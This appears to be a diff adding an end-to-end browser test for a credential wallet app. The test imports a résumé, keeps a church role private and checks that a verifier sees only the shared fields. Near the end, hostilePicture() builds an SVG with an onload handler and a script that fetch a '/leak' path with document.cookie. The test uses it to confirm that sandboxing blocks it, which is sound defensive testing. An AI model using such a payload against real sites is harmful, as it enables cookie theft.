@@ -1,0 +1,144 @@
+import type { Browser, Page } from 'playwright-core'
+import { afterAll, beforeAll, describe, expect, it } from 'vitest'
+import { expectAccessibleAtBothSizes } from '../../../stories/accessible.ts'
+import { speak, storyLanguages } from '../../../stories/languages.ts'
+import { type ServedPages, serveBuiltPages } from '../../../tools/serve-built-pages.ts'
+import { launchBrowser } from '../../../tools/test-browser.ts'
+import { verify } from '../messages/verify.ts'
+import { ownWord } from '../messages/own-word.ts'
+import { wallet as words } from '../messages/wallet.ts'
+import { walletLife } from '../messages/wallet-life.ts'
+import { walletRecord } from '../messages/wallet-record.ts'
+import { walletResume } from '../messages/wallet-resume.ts'
+import { walletShare } from '../messages/wallet-share.ts'
+import { walletTimeline } from '../messages/wallet-timeline.ts'
+
+const lines = [
+  ['Sofia Reyes', 760], ['WORK EXPERIENCE', 730], ['Logistics Coordinator, Northline Freight', 710], ['Jan 2022 - Present', 696], ['Planned 40 routes a day', 682],
+  ['Motor Transport Operator | US Army | 2006 - 02/2015', 650], ['Drove convoys.', 636], ['VOLUNTEERING', 600], ['Treasurer | Saint Mary Church | Feb 2016 - 2020', 580], ['Raised money for the roof.', 566],
+] as const
+
+let wallet: ServedPages
+let node: ServedPages
+let browser: Browser
+
+beforeAll(async () => {
+  [wallet, node] = await Promise.all([serveBuiltPages('wallet'), serveBuiltPages('node', { '/api/trust': { issuers: [] } })])
+  browser = await launchBrowser()
+})
+
+afterAll(async () => {
+  await browser?.close()
+  wallet?.close()
+  node?.close()
+})
+
+describe.each(storyLanguages)('a record in five minutes, in $name', ({ language, locale }) => {
+  /** Every page in one language; in the other those whose order changes most. */
+  const expectAccessible = async (page: Page, isInBoth = false): Promise<void> => { if (language === 'en' || isInBoth) await expectAccessibleAtBothSizes(page) }
+
+  it('begins with a résumé, grows by a photo, and is shown to somebody who can check it', async () => {
+    await speak(language)
+    const context = await browser.newContext({ viewport: { width: 360, height: 640 }, acceptDownloads: true, locale })
+    const page = await context.newPage()
+    await page.goto(`${wallet.origin}/read`)
+    await page.getByRole('button', { name: words.first.make }).click()
+    await page.getByLabel(words.make.passphraseLabel).fill('four brass kettles sing')
+    await page.getByRole('button', { name: words.make.done }).click()
+
+    await page.locator('#life-file').setInputFiles({ name: 'resume.pdf', mimeType: 'application/pdf', buffer: pdfOf(lines) })
+    await page.getByTestId('read-found').waitFor()
+    expect(await page.getByTestId('read-found').innerText()).toBe(walletResume.found(3))
+    await page.getByText(walletResume.losses.personal).click()
+    expect(await page.getByTestId('read-losses').innerText()).toContain('Sofia Reyes')
+    await expectAccessible(page)
+
+    await page.getByRole('link', { name: walletResume.begin }).click()
+    await page.getByRole('heading', { name: 'Logistics Coordinator' }).waitFor()
+    await expectAccessible(page)
+    await page.getByRole('button', { name: walletResume.drafts.accept }).click()
+    await page.getByRole('heading', { name: 'Motor Transport Operator' }).waitFor()
+    await page.getByRole('button', { name: walletResume.drafts.accept }).click()
+    await page.getByRole('heading', { name: 'Treasurer' }).waitFor()
+
+    // The church is suggested as private, and stays out once its person says so.
+    await page.getByRole('button', { name: walletResume.drafts.edit }).click()
+    await page.getByRole('button', { name: `${walletLife.write.change}: ${walletLife.parts.private}` }).click()
+    const place = page.getByLabel(walletLife.parts.where)
+    expect(await place.isChecked()).toBe(false)
+    await page.getByText(walletLife.write.suggestion.religion).first().waitFor()
+    await place.check()
+    await expectAccessible(page, true)
+    await page.getByRole('button', { name: walletLife.write.next }).click()
+    await page.getByRole('button', { name: walletLife.write.confirm }).click()
+    await page.getByText(walletResume.drafts.doneHeading).waitFor()
+
+    await page.getByRole('link', { name: walletResume.drafts.seeRecord }).click()
+    await page.getByRole('heading', { name: 'Logistics Coordinator' }).waitFor()
+    expect(await page.locator('.credential-name').allInnerTexts()).toEqual(['Logistics Coordinator', 'Treasurer', 'Motor Transport Operator'])
+    await expectAccessible(page, true)
+    await page.getByRole('heading', { name: 'Treasurer' }).click()
+    expect(await page.getByTestId('level').innerText()).toBe(walletLife.entry.levels['self-stated'])
+
+    const asked: string[] = []
+    page.on('request', (request) => { if (!request.url().startsWith('data:')) asked.push(request.url()) })
+    await page.locator('#evidence-file').setInputFiles({ name: 'roof.svg', mimeType: 'image/svg+xml', buffer: Buffer.from(hostilePicture(wallet.origin)) })
+    await page.getByText(walletLife.evidence.added).waitFor()
+    expect(await page.getByTestId('level').innerText()).toBe(walletLife.entry.levels.evidenced)
+    await page.getByRole('button', { name: walletLife.evidence.look }).click()
+    const frame = page.frameLocator('iframe')
+    await frame.locator('img').waitFor()
+    expect(await frame.locator('img').evaluate((image: HTMLImageElement) => image.decode().then(() => image.naturalWidth))).toBe(40)
+    expect(await page.locator('iframe').getAttribute('sandbox')).toBe('')
+    expect(await page.evaluate(() => document.querySelector('iframe')?.contentDocument ?? null)).toBeNull()
+    expect(asked.filter((url) => url.includes('leak'))).toEqual([])
+    await expectAccessible(page)
+
+    await page.getByRole('link', { name: walletRecord.share, exact: true }).click()
+    await page.getByText(walletLife.share.choose).waitFor()
+    expect(await page.getByLabel(walletLife.parts.where).isChecked()).toBe(false)
+    await expectAccessible(page)
+    const download = page.waitForEvent('download')
+    await page.getByRole('button', { name: walletShare.file }).click()
+    const path = await (await download).path()
+
+    const verifier = await context.newPage()
+    await verifier.goto(`${node.origin}/verify`)
+    await verifier.locator('input[type=file]').first().setInputFiles(path)
+    await verifier.getByText(ownWord.headline).waitFor()
+    const verdict = await verifier.locator('main').innerText()
+    expect(verdict).toContain(verify.levels.evidenced)
+    expect(verdict).toContain('Treasurer')
+    expect(verdict).not.toContain('Saint Mary')
+    await expectAccessible(verifier)
+
+    await page.goBack()
+    await page.getByRole('button', { name: walletLife.entry.remove }).click()
+    await page.getByText(walletTimeline.removed('Treasurer')).waitFor()
+    await page.getByRole('button', { name: walletTimeline.undo }).click()
+    await page.getByRole('heading', { name: 'Treasurer' }).waitFor()
+    await context.close()
+  })
+})
+
+/** A page of a PDF with lines of text at given heights (ISO 32000-1, "File Structure"), as small as a reader takes it. */
+function pdfOf(text: readonly (readonly [string, number])[]): Buffer {
+  const content = text.map(([line, height]) => `BT /F 11 Tf 60 ${height} Td (${line}) Tj ET`).join('\n')
+  const objects = [
+    '<</Type/Catalog/Pages 2 0 R>>', '<</Type/Pages/Kids[3 0 R]/Count 1>>', '<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]/Contents 4 0 R/Resources<</Font<</F 5 0 R>>>>>>',
+    `<</Length ${content.length}>>stream\n${content}\nendstream`, '<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>',
+  ]
+  let body = '%PDF-1.4\n'
+  const places = objects.map((object, index) => {
+    const place = body.length
+    body += `${index + 1} 0 obj${object}\nendobj\n`
+    return place
+  })
+  const table = places.map((place) => `${String(place).padStart(10, '0')} 00000 n \n`).join('')
+  return Buffer.from(`${body}xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${table}trailer<</Size ${objects.length + 1}/Root 1 0 R>>\nstartxref\n${body.length}\n%%EOF`, 'latin1')
+}
+
+/** A picture that would run, phone home and read the wallet if it were let. */
+function hostilePicture(origin: string): string {
+  return `<svg xmlns="http://www.w3.org/2000/svg" width="40" height="40" onload="fetch('${origin}/leak')"><script>fetch('${origin}/leak?'+document.cookie)</script><image href="${origin}/leak.png"/><rect width="40" height="40" fill="teal"/></svg>`
+}
